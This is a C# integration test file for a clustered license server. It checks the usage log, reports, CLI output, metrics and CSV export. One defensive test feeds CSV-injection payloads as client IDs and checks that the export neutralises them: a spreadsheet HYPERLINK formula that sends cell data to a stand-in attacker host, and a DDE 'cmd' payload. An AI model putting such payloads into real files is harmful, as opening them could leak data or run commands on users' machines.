using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Microsoft.Extensions.DependencyInjection;
using Orleans.Licensing.Client;
using Orleans.Licensing.Server.Tests.Infrastructure;

namespace Orleans.Licensing.Server.Tests.Observability;

/// <summary>
/// Two real license server processes (localhost clustering, one shared SQLite store): a known sequence of checkouts,
/// check-ins, a heartbeat, a denial and an expiry, then the durable usage log, its daily report, the CLI and the
/// Prometheus endpoint are compared with exact expected numbers.
/// </summary>
[Trait("Category", "Process")]
public sealed partial class UsageLogTests(TwoServers pool) : IClassFixture<TwoServers>
{
    private static readonly TimeSpan Ttl = TwoServers.Ttl;
    private readonly ServerProcess _primary = pool.Primary;
    private readonly ServerProcess _second = pool.Second;

    [Fact]
    public async Task The_log_the_report_the_cli_and_the_metrics_agree_with_a_known_sequence()
    {
        var code = PoolFixture.NewCode("USE");
        var started = DateTimeOffset.UtcNow;
        await using var services = ClientServices(_primary.Url);
        var client = services.GetRequiredService<LicensingClient>();
        await using var secondServices = ClientServices(_second.Url);
        var atSecond = secondServices.GetRequiredService<LicensingClient>();

        // 4 seats, 2 per server. In use over time: 2, 3, 1, 3 (peak 3), then a checkout of 2 is denied (1 seat left).
        await client.AddLicenseAsync(TestSecurity.License(code, 4, "CAD"));
        var a = await client.CheckoutAsync(code, 2, "client-a");
        var b = await client.CheckoutAsync(code, 1, "client-b");
        await client.CheckinAsync(code, a.LeaseId, a.ServerId, "client-a");
        var c = await atSecond.CheckoutAsync(code, 2, "client-c");
        await atSecond.HeartbeatAsync(code, c.LeaseId, 2, c.ServerId, "client-c");
        var denied = await Assert.ThrowsAsync<LicensingProblemException>(() => client.CheckoutAsync(code, 2, "client-d"));
        Assert.Equal("no-allocation", denied.Error);
        await atSecond.CheckinAsync(code, c.LeaseId, c.ServerId, "client-c");

        // b is never renewed: it expires one TTL after its checkout, and the log shows it within the flush lag.
        var events = await Until.ValueAsync(
            () => client.GetUsageAsync(code, kinds: ["checkout", "checkin", "expiry", "denial", "heartbeat"]),
            e => e.Any(x => x.Kind == "expiry"), Ttl * 3, "the expiry of b in the usage log");

        // c's heartbeat came seconds after its checkout: heartbeats are sampled (one per lease per
        // Licensing:UsageLog:HeartbeatSampleInterval, 5 min), so the log has no row of it; the metrics count it.
        Assert.Equal(
            [("checkout", a.LeaseId, 2), ("checkout", b.LeaseId, 1), ("checkin", a.LeaseId, 2), ("checkout", c.LeaseId, 2), ("denial", null, 2), ("checkin", c.LeaseId, 2), ("expiry", b.LeaseId, 1)],
            events.Select(e => (e.Kind, e.LeaseId, e.Count)).ToList());
        Assert.Equal(["primary", "primary", "primary", "second", "primary", "second", "primary"], events.Select(e => e.ServerId));
        Assert.Equal(["client-a", "client-b", "client-a", "client-c", "client-d", "client-c", "client-b"], events.Select(e => e.ClientId));
        Assert.Equal("no-allocation", events.Single(e => e.Kind == "denial").Detail);

        // The same log from the other server, with a code filter and a time window that leaves nothing out.
        var fromSecond = await atSecond.GetUsageAsync(code, started.AddMinutes(-1), DateTimeOffset.UtcNow.AddMinutes(1));
        Assert.Contains(fromSecond, e => e.Kind == "code-added" && e.Count == 4);
        Assert.Equal(7, fromSecond.Count(e => e.Kind is "checkout" or "checkin" or "expiry" or "denial" or "heartbeat"));

        // The newest two, newest first.
        using var http = _second.CreateHttpClient();
        var newest = (await http.GetFromJsonAsync<JsonArray>($"api/v1/usage?code={code}&kind=checkout,checkin,expiry,denial,heartbeat&order=desc&limit=2"))!;
        Assert.Equal(events.TakeLast(2).Reverse().Select(e => e.LeaseId), newest.Select(e => (string?)e!["leaseId"]));

        // The report: peak 3 concurrent seats, 1 denial, 3 checkouts, never above the 4 seats.
        var report = await atSecond.GetUsageReportAsync(code, started.AddMinutes(-1), DateTimeOffset.UtcNow.AddMinutes(1));
        Assert.Empty(report.OverIssues);
        Assert.Equal(3, report.Days.Max(d => d.PeakInUse));
        Assert.Equal(1, report.Days.Sum(d => d.Denials));
        Assert.Equal(3, report.Days.Sum(d => d.Checkouts));
        var peak = report.Days.Single(d => d.PeakInUse == 3).PeakAt;
        Assert.Equal(events.Single(e => e.Kind == "checkout" && e.LeaseId == b.LeaseId).At, peak);

        // The CLI prints the same numbers.
        var output = new StringWriter();
        var exit = await Cli.Cli.RunAsync(["usage", "report", "--code", code, "--since", started.AddMinutes(-1).ToString("O"), "--server", _primary.Url.ToString(), "--key-file", TestSecurity.AdminKeyFile], output, new StringWriter());
        Assert.Equal(0, exit);
        Assert.Matches($@"{code}\s+\d{{4}}-\d\d-\d\d\s+3\s+\S+\s+1\s+3", output.ToString());
        Assert.Contains("No instant above the seats.", output.ToString());
        var csv = new StringWriter();
        Assert.Equal(0, await Cli.Cli.RunAsync(["usage", "--code", code, "--kind", "checkout", "--csv", "--server", _second.Url.ToString(), "--key-file", TestSecurity.AdminKeyFile], csv, new StringWriter()));
        var lines = csv.ToString().TrimEnd().Split('\n');
        Assert.Equal("at,kind,code,server,client,count,lease,detail,actor,owner_user,owner_host", lines[0]);
        Assert.Equal(3, lines.Length - 1);

        // Prometheus, summed over both servers: exact counts of this code.
        var metrics = await Until.ValueAsync(async () => await MetricsAsync(code), m => m.GetValueOrDefault("licensing_expiries_total") == 1, TimeSpan.FromSeconds(30), "the expiry in /metrics");
        Assert.Equal(3, metrics["licensing_checkouts_total"]);
        Assert.Equal(2, metrics["licensing_checkins_total"]);
        Assert.Equal(1, metrics["licensing_heartbeats_total"]);
        Assert.Equal(1, metrics["licensing_denials_total"]);
        Assert.Equal(1, metrics["licensing_expiries_total"]);
    }

    [Theory]
    [InlineData("api/v1/usage?since=yesterday")]
    [InlineData("api/v1/usage?until=2026-13-40")]
    [InlineData("api/v1/usage?since=2026-12-02&until=2026-12-01")]
    [InlineData("api/v1/usage?kind=checkout,teleport")]
    [InlineData("api/v1/usage?limit=0")]
    [InlineData("api/v1/usage?limit=10001")]
    [InlineData("api/v1/usage?format=xml")]
    [InlineData("api/v1/usage?order=newest")]
    [InlineData("api/v1/usage?code=a%2Fb")]
    [InlineData("api/v1/usage/report?since=2020-01-01&until=2026-01-01")]
    [InlineData("api/v1/usage/report?since=nope")]
    public async Task Bad_parameters_are_400_problems_with_a_stable_type(string path)
    {
        using var http = _primary.CreateHttpClient();
        var response = await http.GetAsync(path);
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var problem = (await response.Content.ReadFromJsonAsync<JsonObject>())!;
        Assert.Equal("https://orleans-licensing.dev/problems/invalid-request", (string?)problem["type"]);
        Assert.Equal("invalid-request", (string?)problem["error"]);
    }

    [Fact]
    public async Task Csv_of_the_usage_api_has_a_header_and_one_line_per_event()
    {
        var code = PoolFixture.NewCode("CSV");
        await using var services = ClientServices(_primary.Url);
        var client = services.GetRequiredService<LicensingClient>();
        await client.AddLicenseAsync(TestSecurity.License(code, 2, "CAD, \"Pro\""));
        await client.CheckoutAsync(code, 1, "client,with\"comma");
        using var http = _primary.CreateHttpClient();
        var csv = await Until.ValueAsync(() => http.GetStringAsync($"api/v1/usage?code={code}&kind=checkout&format=csv"), s => s.Split('\n', StringSplitOptions.RemoveEmptyEntries).Length == 2, TimeSpan.FromSeconds(15), "the checkout as CSV");
        Assert.StartsWith("at,kind,code,server,client,count,lease,detail,actor,owner_user,owner_host\n", csv);
        Assert.Contains($",checkout,{code},primary,\"client,with\"\"comma\",1,", csv);
    }

    /// <summary>
    /// OWASP CSV injection: a client id is the client's own text, and a spreadsheet runs a cell that starts with =, +, -
    /// or @ as a formula. Such a cell is prefixed with ' (and then quoted as RFC 4180 asks).
    /// </summary>
    [Fact]
    public async Task Csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised()
    {
        var code = PoolFixture.NewCode("CSVF");
        await using var services = ClientServices(_primary.Url);
        var client = services.GetRequiredService<LicensingClient>();
        await client.AddLicenseAsync(TestSecurity.License(code, 10));
        string[] hostile = ["=HYPERLINK(\"https://evil.example.test/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"];
        foreach (var clientId in hostile) await client.CheckoutAsync(code, 1, clientId);
        using var http = _primary.CreateHttpClient();
        var csv = await Until.ValueAsync(() => http.GetStringAsync($"api/v1/usage?code={code}&kind=checkout&format=csv"),
            s => s.Split('\n', StringSplitOptions.RemoveEmptyEntries).Length == 1 + hostile.Length, TimeSpan.FromSeconds(15), "the checkouts as CSV");

        var clients = csv.Split('\n', StringSplitOptions.RemoveEmptyEntries).Skip(1).Select(ClientCell).Order(StringComparer.Ordinal).ToList();
        Assert.Equal(hostile.Select(h => "'" + h).Order(StringComparer.Ordinal), clients);
        Assert.Contains(",\"'=HYPERLINK(\"\"https://evil.example.test/?\"\"&A1,\"\"click\"\")\",", csv);
        Assert.Contains(",'-2+3,", csv);
    }

    /// <summary>The client cell (the fifth) of a CSV line, unquoted.</summary>
    private static string ClientCell(string line)
    {
        var cells = new List<string>();
        var cell = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (quoted && c == '"' && i + 1 < line.Length && line[i + 1] == '"') { cell.Append('"'); i++; }
            else if (c == '"') quoted = !quoted;
            else if (c == ',' && !quoted) { cells.Add(cell.ToString()); cell.Clear(); }
            else cell.Append(c);
        }

        cells.Add(cell.ToString());
        return cells[4];
    }

    [Fact]
    public async Task The_orleans_dashboard_and_the_pool_view_are_served_by_every_server()
    {
        foreach (var server in new[] { _primary, _second })
        {
            using var http = server.CreateHttpClient();
            var dashboard = await http.GetAsync("dashboard/");
            Assert.Equal(HttpStatusCode.OK, dashboard.StatusCode);
            Assert.Contains("<html", await dashboard.Content.ReadAsStringAsync(), StringComparison.OrdinalIgnoreCase);

            // "/pool" redirects to "/pool/" (HttpClient drops the credential on a redirect; a browser keeps it).
            using (var noRedirect = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false }) { BaseAddress = server.Url })
            {
                TestSecurity.Authorize(noRedirect, TestRole.Admin);
                var redirect = await noRedirect.GetAsync("pool");
                Assert.Equal(HttpStatusCode.Redirect, redirect.StatusCode);
                Assert.Equal("/pool/", redirect.Headers.Location?.OriginalString);
            }

            var page = await http.GetAsync("pool/");
            Assert.Equal(HttpStatusCode.OK, page.StatusCode);
            Assert.Equal("text/html", page.Content.Headers.ContentType!.MediaType);
            Assert.Contains("<title>License pool", await page.Content.ReadAsStringAsync());
            Assert.Equal(HttpStatusCode.OK, (await http.GetAsync("pool/pool.js")).StatusCode);
            Assert.Equal(HttpStatusCode.NotFound, (await http.GetAsync("pool/missing.js")).StatusCode);
        }
    }

    /// <summary>Prometheus samples of <paramref name="code"/> on both servers, summed per metric name.</summary>
    private async Task<Dictionary<string, double>> MetricsAsync(string code)
    {
        var sums = new Dictionary<string, double>();
        foreach (var server in new[] { _primary, _second })
        {
            using var http = server.CreateHttpClient();
            var text = await http.GetStringAsync("metrics");
            foreach (Match m in Sample().Matches(text))
            {
                if (!m.Groups["labels"].Value.Contains($"licensing_code=\"{code}\"", StringComparison.Ordinal)) continue;
                var name = m.Groups["name"].Value;
                sums[name] = sums.GetValueOrDefault(name) + double.Parse(m.Groups["value"].Value, CultureInfo.InvariantCulture);
            }
        }

        return sums;
    }

    [GeneratedRegex(@"^(?<name>[a-z_]+)\{(?<labels>[^}]*)\} (?<value>[0-9.eE+-]+)", RegexOptions.Multiline)]
    private static partial Regex Sample();

    private static ServiceProvider ClientServices(params Uri[] servers) =>
        new ServiceCollection().AddLogging().AddLicensingClient(o =>
        {
            o.Servers = servers;
            o.ApiKey = TestSecurity.AdminKey;
            o.AttemptTimeout = TimeSpan.FromSeconds(5);
        }).Services.BuildServiceProvider();
}

/// <summary>Two server processes shared by the tests of a class; each test uses license codes of its own.</summary>
public sealed class TwoServers : IAsyncLifetime
{
    public static readonly TimeSpan Ttl = TimeSpan.FromSeconds(15);
    private readonly string _data = Path.Combine(Path.GetTempPath(), "licensing-tests", Guid.NewGuid().ToString("N"));
    private readonly Dictionary<string, string> _settings = new()
    {
        ["Licensing__LeaseTtl"] = Ttl.ToString(),
        ["Licensing__SweepInterval"] = "00:00:01",
        ["Licensing__UsageLog__FlushInterval"] = "00:00:00.200",
    };

    public ServerProcess Primary { get; private set; } = null!;

    public ServerProcess Second { get; private set; } = null!;

    public async Task InitializeAsync()
    {
        Primary = new ServerProcess("primary", _data, settings: _settings);
        await Primary.StartAsync();
        Second = new ServerProcess("second", _data, Primary.SiloPort, _settings);
        await Second.StartAsync();
    }

    public async Task DisposeAsync()
    {
        await Second.DisposeAsync();
        await Primary.DisposeAsync();
        PoolFixture.TryDelete(_data);
    }
}
